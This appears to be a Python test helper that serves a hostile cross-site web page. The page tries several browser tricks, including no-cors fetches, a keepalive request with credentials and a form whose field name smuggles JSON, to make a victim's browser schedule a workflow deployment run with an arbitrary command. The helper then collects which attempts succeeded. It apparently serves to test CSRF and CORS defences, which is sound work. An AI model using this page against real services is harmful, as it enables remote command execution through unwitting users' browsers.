"""A web page of another site that tries every way to have a run of a deployment made, from a person's browser."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from queue import Queue
from threading import Thread

_PAGE = """<!doctype html><title>a page of another site</title>
<form id=form method=post enctype=text/plain target=frame><input name='{"name": "by form", "rest": "' value='"}'></form>
<iframe name=frame></iframe>
<script>
const api = API, run = api + "/deployments/DEPLOYMENT/create_flow_run", told = {};
const body = name => JSON.stringify({name: name, job_variables: {command: COMMAND}, state: {type: "SCHEDULED"}});
async function attempt(name, options) {
  try {
    const answer = await fetch(run, {method: "POST", ...options});
    told[name] = answer.type === "opaque" ? "sent" : answer.status;
  } catch (error) { told[name] = "stopped by the browser"; }
}
async function main() {
  await attempt("by json", {body: body("by json"), headers: {"Content-Type": "application/json"}});
  await attempt("by text", {body: body("by text"), mode: "no-cors", headers: {"Content-Type": "text/plain"}});
  await attempt("by blob", {body: new Blob([body("by blob")]), mode: "no-cors"});
  await attempt("by beacon", {body: body("by beacon"), mode: "no-cors", keepalive: true, credentials: "include"});
  form.action = run; form.submit();
  try { told["read"] = (await fetch(api + "/admin/version")).status; }
  catch (error) { told["read"] = "stopped by the browser"; }
  await new Promise(resolve => setTimeout(resolve, 1000));
  await fetch("HERE/told", {method: "POST", mode: "no-cors", body: JSON.stringify(told)});
}
main();
</script>"""


@contextmanager
def intruding(api: str, deployment: str, command: str) -> Iterator[tuple[str, Queue[dict[str, object]]]]:
    """The page's address, on a port of its own; what its attempts came to is put into the queue."""
    told: Queue[dict[str, object]] = Queue()

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            here = f"http://127.0.0.1:{self.server.server_port}"  # type: ignore[attr-defined]
            page = _PAGE.replace("COMMAND", json.dumps(command)).replace("API", json.dumps(api))
            page = page.replace("DEPLOYMENT", deployment).replace("HERE", here).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page)

        def do_POST(self) -> None:
            told.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            return

    with ThreadingHTTPServer(("127.0.0.1", 0), Site) as server:
        thread = Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/", told
        finally:
            server.shutdown()
            thread.join()
